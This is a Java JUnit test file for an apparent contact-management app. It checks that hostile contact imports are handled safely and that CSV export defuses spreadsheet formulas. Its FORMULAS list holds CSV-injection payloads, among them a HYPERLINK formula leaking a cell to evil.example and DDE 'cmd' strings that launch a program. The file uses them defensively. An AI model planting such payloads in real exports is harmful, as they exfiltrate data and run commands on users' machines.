/*
 * Copyright (c) 2026 Rapport contributors
 * SPDX-License-Identifier: EPL-2.0
 */
package org.rapport.core.tests.interchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

import org.eclipse.core.runtime.NullProgressMonitor;
import org.eclipse.core.runtime.Platform;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.rapport.core.interchange.ContactFormat;
import org.rapport.core.interchange.exporter.GoogleContactsExporter;
import org.rapport.core.interchange.importer.ImportPreview;
import org.rapport.core.interchange.importer.ImportRow;
import org.rapport.core.interchange.importer.ImportStatus;
import org.rapport.core.interchange.ParsedContacts;
import org.rapport.core.store.PlanStore;
import org.rapport.model.contacts.ContactInfo;
import org.rapport.model.Contact;
import org.rapport.model.NetworkingPlan;

/**
 * The hostile corpus ({@code data/hostile/}): each file imports without an internal error; bad rows are
 * rejected alone with their line, characters a plan cannot hold are replaced and reported, the good rows are
 * imported and the plan saves. And the Google CSV export writes nothing a spreadsheet would run.
 */
class HostileContactsTest {

	@TempDir
	Path dir;

	static Stream<String> corpus() {
		List<String> names = new ArrayList<>();
		for (URL url : Collections.list(Platform.getBundle(Fixtures.BUNDLE).findEntries("data/hostile", "*.*", false))) {
			String path = url.getPath();
			String name = path.substring(path.lastIndexOf('/') + 1);
			if (name.startsWith("google-") || name.startsWith("linkedin-") || name.startsWith("vcard-")) {
				names.add(name);
			}
		}
		Collections.sort(names);
		return names.stream();
	}

	static ContactFormat formatOf(String name) {
		return name.startsWith("google-") ? ContactFormat.GOOGLE_CONTACTS
				: name.startsWith("linkedin-") ? ContactFormat.LINKEDIN_CONNECTIONS : ContactFormat.VCARD;
	}

	static byte[] hostile(String name) throws Exception {
		try (var in = Platform.getBundle(Fixtures.BUNDLE).getEntry("data/hostile/" + name).openStream()) {
			return in.readAllBytes();
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("corpus")
	void everyHostileFileImportsItsGoodRowsAndThePlanSaves(String name) throws Exception {
		byte[] bytes = hostile(name);
		Path file = dir.resolve("plan.rapport");
		NetworkingPlan plan = new PlanStore().createNew(file, "Hostile");
		Fixtures.Setup setup = new Fixtures.Setup(plan, new org.eclipse.emf.edit.domain.AdapterFactoryEditingDomain(
				new org.eclipse.emf.edit.provider.ComposedAdapterFactory(
						org.eclipse.emf.edit.provider.ComposedAdapterFactory.Descriptor.Registry.INSTANCE),
				new org.eclipse.emf.common.command.BasicCommandStack(), plan.eResource().getResourceSet()));

		ImportPreview preview = assertTimeoutPreemptively(Duration.ofSeconds(20),
				() -> setup.importAll(Fixtures.read(formatOf(name), name, bytes)));

		assertTrue(preview.getRows().stream().anyMatch(r -> r.getStatus() == ImportStatus.NEW), preview.getRows()::toString);
		for (ImportRow row : preview.getRows()) {
			assertTrue(row.getLine() > 0, row::toString);
			assertFalse(row.getMessage().contains("Exception"), row::toString);
		}
		new PlanStore().save(plan.eResource(), file); // throws if a character XML cannot hold got into the plan
		assertEquals(plan.getContacts().size(), new PlanStore().load(file).getContacts().size());
	}

	@Test
	void anAbsurdGoogleColumnNumberIsIgnoredWithAWarningAndTheRowsImport() throws Exception {
		ParsedContacts parsed = Fixtures.read(ContactFormat.GOOGLE_CONTACTS, "google-huge-column-number.csv",
				hostile("google-huge-column-number.csv"));
		assertEquals(List.of("The column \"E-mail 99999999999 - Label\" is ignored: its number is above 999999.",
				"The column \"E-mail 99999999999 - Value\" is ignored: its number is above 999999."), parsed.warnings());
		assertEquals(List.of("ada@example.org"), Fixtures.record(parsed, "Ada").getEmails());
		assertEquals(2, parsed.records().size());
	}

	@Test
	void controlCharactersAreReplacedAndTheRowSaysSo() throws Exception {
		Fixtures.Setup setup = Fixtures.emptyPlan();
		ImportPreview preview = setup.importAll(Fixtures.read(ContactFormat.GOOGLE_CONTACTS, "google-control-characters.csv",
				hostile("google-control-characters.csv")));
		assertEquals(List.of(ImportStatus.NEW, ImportStatus.NEW, ImportStatus.NEW, ImportStatus.NEW, ImportStatus.NEW),
				Fixtures.statuses(preview));
		List<String> firstNames = setup.plan().getContacts().stream().map(Contact::getFirstName).toList();
		assertEquals(List.of("Nul\uFFFDl", "Soh\uFFFD", "Esc\uFFFD[31m", "Nonchar\uFFFD", "Clean"), firstNames);
		ImportRow nul = preview.getRows().get(0);
		assertEquals(2, nul.getLine());
		assertTrue(nul.getMessage().endsWith("The file has 1 character(s) here that a plan cannot hold (control characters "
				+ "such as NUL or ESC, or U+FFFF); each was replaced by \uFFFD."), nul.getMessage());
		assertFalse(preview.getRows().get(4).getMessage().contains("cannot hold"));
	}

	@Test
	void aQuotedPrintableNulInAVCardIsReplaced() throws Exception {
		Fixtures.Setup setup = Fixtures.emptyPlan();
		ImportPreview preview = setup.importAll(Fixtures.read(ContactFormat.VCARD, "vcard-quoted-printable-nul.vcf",
				hostile("vcard-quoted-printable-nul.vcf")));
		assertEquals("before\uFFFDafter\uFFFD\uFFFD", setup.contact("Quentin", "Nul").getNotes());
		assertEquals("Esc\uFFFDCorp", setup.contact("Vera", "Clean").getOrganization());
		assertTrue(preview.getRows().get(0).getMessage().contains("3 character(s)"), preview.getRows().get(0).getMessage());
	}

	/** What OWASP says spreadsheets run: a leading =, +, -, @, tab or carriage return. */
	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
			"+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTabbed", "\rReturned",
			"'=already quoted");

	@Test
	void theCsvExportNeutralizesFormulasAndAnImportReadsThemBackAsTheyWere() throws Exception {
		Fixtures.Setup source = Fixtures.emptyPlan();
		int i = 0;
		for (String formula : FORMULAS) {
			Contact c = Fixtures.contact(source.plan(), formula, "Last" + i, formula, "f" + i + "@example.org");
			c.setPosition(formula);
			c.setNotes(formula);
			c.getTags().add(formula);
			ContactInfo.addPhone(c, "+49 30 1234 " + i);
			i++;
		}
		byte[] csv = Fixtures.export(new GoogleContactsExporter(), source.plan().getContacts());

		List<org.apache.commons.csv.CSVRecord> records;
		try (var parser = org.apache.commons.csv.CSVParser.parse(new String(csv, StandardCharsets.UTF_8),
				org.apache.commons.csv.CSVFormat.RFC4180)) {
			records = parser.getRecords();
		}
		for (org.apache.commons.csv.CSVRecord record : records.subList(1, records.size())) {
			for (String cell : record) {
				assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.startsWith("+49 30 1234"),
						() -> "a spreadsheet would run " + cell);
			}
		}
		assertTrue(new String(csv, StandardCharsets.UTF_8).contains(",+49 30 1234 0,"), "phone numbers stay as they are");

		Fixtures.Setup target = Fixtures.emptyPlan();
		target.importAll(Fixtures.read(ContactFormat.GOOGLE_CONTACTS, "round-trip.csv", csv));
		assertEquals(FORMULAS.size(), target.plan().getContacts().size());
		for (int j = 0; j < FORMULAS.size(); j++) {
			String formula = FORMULAS.get(j).strip().isEmpty() ? null : FORMULAS.get(j);
			Contact back = target.plan().getContacts().get(j);
			String expected = FORMULAS.get(j).strip(); // CSV values are read trimmed
			assertEquals(expected, back.getFirstName());
			assertEquals(expected, back.getOrganization());
			assertEquals(expected, back.getPosition());
			assertEquals(expected, back.getNotes());
			assertEquals(List.of(expected), back.getTags());
			assertEquals(List.of("+49 30 1234 " + j), ContactInfo.phones(back));
			assertTrue(formula != null);
		}
	}
}
